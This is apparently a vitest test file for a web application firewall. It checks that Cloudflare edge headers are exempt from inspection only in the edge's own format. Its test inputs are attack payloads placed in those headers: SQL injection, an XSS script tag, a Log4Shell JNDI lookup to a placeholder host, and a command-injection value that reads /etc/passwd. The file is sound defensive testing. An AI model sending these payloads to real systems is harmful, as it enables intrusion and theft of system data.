// biome-ignore-all lint/suspicious/noTemplateCurlyInString: Log4Shell payloads with ${…} are literal on purpose.
// Headers Cloudflare's edge writes are left out of inspection only in the shape the edge writes them; any
// other value in them is inspected like every other header.
import { describe, expect, it } from "vitest";
import { isEdgeWritten } from "../../core/waf/edge-headers.ts";
import { ManagedEngine } from "../../core/waf/engine.ts";
import { collectTargets } from "../../core/waf/inspect.ts";
import { managedSettings } from "../waf-corpus/settings.ts";

const get = (headers: Record<string, string>) =>
  collectTargets({ method: "GET", path: "/", query: "", headers: new Headers(headers) });
const score = (headers: Record<string, string>) =>
  new ManagedEngine(managedSettings()).inspect(get(headers)).score;

describe("headers the edge writes", () => {
  const edge = {
    "cf-ray": "8c1f4e2a9b3d5f70-AMS",
    "cf-connecting-ip": "2001:db8::7",
    "cf-ipcountry": "NL",
    "cf-visitor": '{"scheme":"https"}',
  };

  it("are not inspection targets in the edge's shape", () => {
    expect(get(edge).targets.filter((t) => t.location.startsWith("header:cf-"))).toEqual([]);
    expect(isEdgeWritten("cf-connecting-ip", "203.0.113.9")).toBe(true);
    expect(isEdgeWritten("cf-ray", "8c1f4e2a9b3d5f70")).toBe(true);
  });

  it.each([
    ["cf-ray", "1' or '1'='1"],
    ["cf-connecting-ip", "<script>alert(1)</script>"],
    ["cf-ipcountry", "${jndi:ldap://e.example/a}"],
    ["cf-visitor", '{"scheme":"https"};cat /etc/passwd'],
  ])("in any other shape are inspected: %s: %s", (name, value) => {
    expect(isEdgeWritten(name, value)).toBe(false);
    expect(get({ [name]: value }).targets.map((t) => t.location)).toContain(`header:${name}`);
  });

  it.each(["cf-ray", "cf-connecting-ip", "cf-ipcountry", "cf-visitor"])(
    "a Log4Shell lookup in %s is scored as in any header",
    (name) => {
      expect(score({ [name]: "${jndi:ldap://e.example/a}" })).toBeGreaterThanOrEqual(5);
      expect(score({ [name]: (edge as Record<string, string>)[name]! })).toBe(0);
    },
  );

  it("other cf- headers and look-alike names are inspected whatever their value", () => {
    expect(isEdgeWritten("cf-worker", "example.com")).toBe(false);
    expect(isEdgeWritten("x-cf-ray", "8c1f4e2a9b3d5f70-AMS")).toBe(false);
    expect(get({ "cf-worker": "example.com" }).targets.map((t) => t.location)).toContain("header:cf-worker");
  });
});
